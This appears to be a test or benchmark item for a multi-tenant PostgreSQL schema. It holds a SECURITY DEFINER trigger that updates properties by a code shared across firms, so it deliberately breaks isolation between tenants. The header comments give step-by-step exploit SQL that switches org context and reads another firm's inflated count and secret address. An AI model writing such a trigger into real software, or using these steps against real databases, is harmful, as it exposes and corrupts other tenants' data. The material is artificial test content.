-- The counter of units is kept by an owner's rights trigger that finds the property by code, which firms
-- share.
-- about: unit_count, count_units, units, properties
-- as: hf_domicile_app
-- exploit: SET app.current_org = 'aaaaaaaa-0000-4000-8000-00000000000a';
-- exploit: INSERT INTO pm.units (org_id, property_id, label) SELECT org_id, id, 'A2' FROM pm.properties;
-- exploit: SET app.current_org = 'bbbbbbbb-0000-4000-8000-00000000000b';
-- exploit: SELECT 'count=' || unit_count || ' ' || address FROM pm.properties;
-- shows: count=3 Road-secret
CREATE FUNCTION pm.count_units() RETURNS trigger
LANGUAGE plpgsql SECURITY DEFINER
SET search_path = pm, pg_temp
AS $$
DECLARE v_code text;
BEGIN
  SELECT code INTO v_code FROM pm.properties WHERE org_id = NEW.org_id AND id = NEW.property_id;
  UPDATE pm.properties SET unit_count = unit_count + 1 WHERE code = v_code;
  RETURN NULL;
END $$;
REVOKE EXECUTE ON FUNCTION pm.count_units() FROM PUBLIC;
CREATE TRIGGER count_units AFTER INSERT ON pm.units FOR EACH ROW EXECUTE FUNCTION pm.count_units();
